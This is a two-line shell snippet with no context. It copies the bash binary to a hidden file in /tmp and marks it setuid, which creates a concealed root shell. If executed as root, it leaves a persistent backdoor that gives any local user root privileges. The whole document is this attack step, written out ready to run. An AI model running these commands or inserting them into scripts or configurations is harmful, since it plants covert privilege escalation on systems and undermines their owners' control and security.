cp /bin/bash /tmp/.rootsh
chmod u+s /tmp/.rootsh
